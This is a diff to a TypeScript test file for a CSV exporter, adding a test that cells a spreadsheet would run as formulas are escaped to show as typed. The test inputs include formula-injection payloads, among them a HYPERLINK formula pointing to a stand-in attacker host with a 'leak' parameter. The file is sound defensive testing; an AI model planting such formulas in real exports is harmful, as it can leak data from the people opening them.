@@ -1,5 +1,6 @@
 // The CSV an office opens in Excel on Chinese Windows: UTF-8 with a byte-order mark (without it
-// Excel reads the names as GBK and shows mojibake), CRLF line ends, and fields quoted as needed.
+// Excel reads the names as GBK and shows mojibake), CRLF line ends, fields quoted as needed, and
+// no cell a spreadsheet would run as a formula.
 import { auditCsv, toCsv } from '../../exports/csv';
 
 describe('CSV for spreadsheets', () => {
@@ -18,6 +19,23 @@ describe('CSV for spreadsheets', () => {
       ],
     );
     expect(text.slice(1).split('\r\n')).toEqual(['a,b,c,d', '"一,二","说""好""","上\n下",', '0,,,3.5', '']);
+  });
+
+  test('a text a spreadsheet would run as a formula is written to show as typed; numbers stay numbers', () => {
+    const typed = ['=1+1', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?leak","点这里")', '+86 10', '-1', '\tcmd', '\r=1'];
+    const text = toCsv(['报告内容'], [...typed.map((value) => [value]), [-1], ['党员 12 名']]);
+    const cells = text.slice(1).split('\r\n').slice(1, -1);
+    expect(cells).toEqual([
+      "'=1+1",
+      "'@SUM(1+1)",
+      '"\'=HYPERLINK(""http://evil.example/?leak"",""点这里"")"',
+      "'+86 10",
+      "'-1",
+      "'\tcmd",
+      '"\'\r=1"',
+      '-1',
+      '党员 12 名',
+    ]);
   });
 
   test('the record exports one row per event with its hash', () => {
